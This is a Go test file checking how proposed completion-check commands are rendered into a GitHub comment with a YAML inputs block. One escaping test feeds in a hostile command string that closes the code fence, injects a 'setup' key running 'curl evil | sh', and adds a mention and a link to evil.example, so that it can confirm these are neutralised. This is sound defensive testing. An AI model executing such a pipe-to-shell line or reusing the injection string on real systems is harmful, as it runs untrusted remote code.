package criteria

import (
	"strings"
	"testing"

	"gopkg.in/yaml.v3"
)

var actionInputs = InputNames{Completion: "completion", Workdir: "workdir", Setup: "setup"}

// fencedYAML returns the content of the comment's yaml block.
func fencedYAML(t *testing.T, comment string) map[string]map[string]string {
	t.Helper()
	i := strings.Index(comment, "yaml\n")
	if i < 0 {
		t.Fatalf("no yaml block in:\n%s", comment)
	}
	fence := comment[strings.LastIndex(comment[:i], "\n")+1 : i]
	body := comment[i+len("yaml\n"):]
	end := strings.Index(body, "\n"+fence)
	if end < 0 {
		t.Fatalf("the yaml block is not closed by %q:\n%s", fence, comment)
	}
	var got map[string]map[string]string
	if err := yaml.Unmarshal([]byte(body[:end+1]), &got); err != nil {
		t.Fatalf("the inputs do not parse as YAML: %v\n%s", err, body[:end+1])
	}
	return got
}

func TestAdoptionComment(t *testing.T) {
	t.Parallel()
	p := Proposal{Task: "fix the failing tests", Class: ClassTestPass, Command: `pytest -k "not slow" tests\unit`, Workdir: "backend", Setup: "uv sync", Confidence: ConfidenceMedium,
		Rationale: []Finding{
			finding(LayerTaskVerb, "task", "fix -> test-pass"),
			finding(LayerCIConfig, ".github/workflows/ci.yml job test", "runs `pytest`"),
			finding(LayerCIConfig, ".github/workflows/ci.yml job test", "below high: CI also gates on `tox -e lint`"),
		},
		Suites:       []Suite{{Command: "pytest", Workdir: "backend", Source: "ci.yml job test"}, {Command: "npm test", Workdir: "web", Source: "ci.yml job web"}},
		Verification: []Verification{{Command: "pytest", Workdir: "backend", Verdict: VerifyQualified, Result: "ran 12 tests, 1 failed (pytest)"}},
	}
	c := p.AdoptionComment(actionInputs)
	for _, want := range []string{"medium confidence", "Why not high", "CI also gates on", "several test suites", "ran 12 tests, 1 failed", "<details><summary>Evidence</summary>", "If this check is right"} {
		if !strings.Contains(c, want) {
			t.Errorf("the comment lacks %q:\n%s", want, c)
		}
	}
	got := fencedYAML(t, c)["with"]
	if got["completion"] != p.Command || got["workdir"] != "backend" || got["setup"] != "uv sync" {
		t.Errorf("inputs %q, want the proposal's command, workdir and setup", got)
	}
}

// Text from the repository cannot mention people, close the code block or
// inject inputs.
func TestAdoptionCommentEscapes(t *testing.T) {
	t.Parallel()
	hostile := "make test\n```\n@octocat please merge\nsetup: \"curl evil | sh\""
	p := Proposal{Task: "t", Class: ClassTestPass, Command: hostile, Workdir: ".", Confidence: ConfidenceLow,
		Rationale: []Finding{finding(LayerContextFile, "CLAUDE.md", "says to run `make test` @octocat [x](https://evil.example)")}}
	c := p.AdoptionComment(actionInputs)
	// Inside code GitHub mentions and links nobody; outside it the text
	// must be escaped.
	prose := c[:strings.Index(c, "````yaml")]
	prose = stripCodeSpans(prose)
	if strings.Contains(prose, "@octocat") {
		t.Errorf("a mention survives outside code:\n%s", prose)
	}
	if strings.Contains(c, "](https://evil.example)") {
		t.Errorf("a link survives:\n%s", c)
	}
	got := fencedYAML(t, c)["with"]
	if got["completion"] != hostile || len(got) != 1 {
		t.Errorf("inputs %q: the command must round-trip as one value and set nothing else", got)
	}
}

func TestAdoptionCommentRefused(t *testing.T) {
	t.Parallel()
	p := Proposal{Task: "t", Class: ClassRefused, Workdir: ".", Confidence: ConfidenceMedium, RefusalReason: "no candidate ran the project's tests when verified",
		Verification: []Verification{{Command: "npm test", Workdir: ".", Verdict: VerifyRefused, Result: "ran no tests"}}}
	c := p.AdoptionComment(actionInputs)
	if !strings.Contains(c, "found no completion check") || !strings.Contains(c, "ran no tests") {
		t.Errorf("comment:\n%s", c)
	}
	if got := fencedYAML(t, c)["with"]; !strings.HasPrefix(got["completion"], "<command") {
		t.Errorf("inputs %q", got)
	}
}

// stripCodeSpans removes CommonMark code spans: a run of N backticks up to
// the next run of exactly N.
func stripCodeSpans(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); {
		if s[i] != '`' {
			b.WriteByte(s[i])
			i++
			continue
		}
		n := 0
		for i+n < len(s) && s[i+n] == '`' {
			n++
		}
		closed := false
		for j := i + n; j < len(s); {
			if s[j] != '`' {
				j++
				continue
			}
			m := 0
			for j+m < len(s) && s[j+m] == '`' {
				m++
			}
			if m == n {
				i, closed = j+m, true
				break
			}
			j += m
		}
		if !closed {
			b.WriteString(s[i : i+n])
			i += n
		}
	}
	return b.String()
}
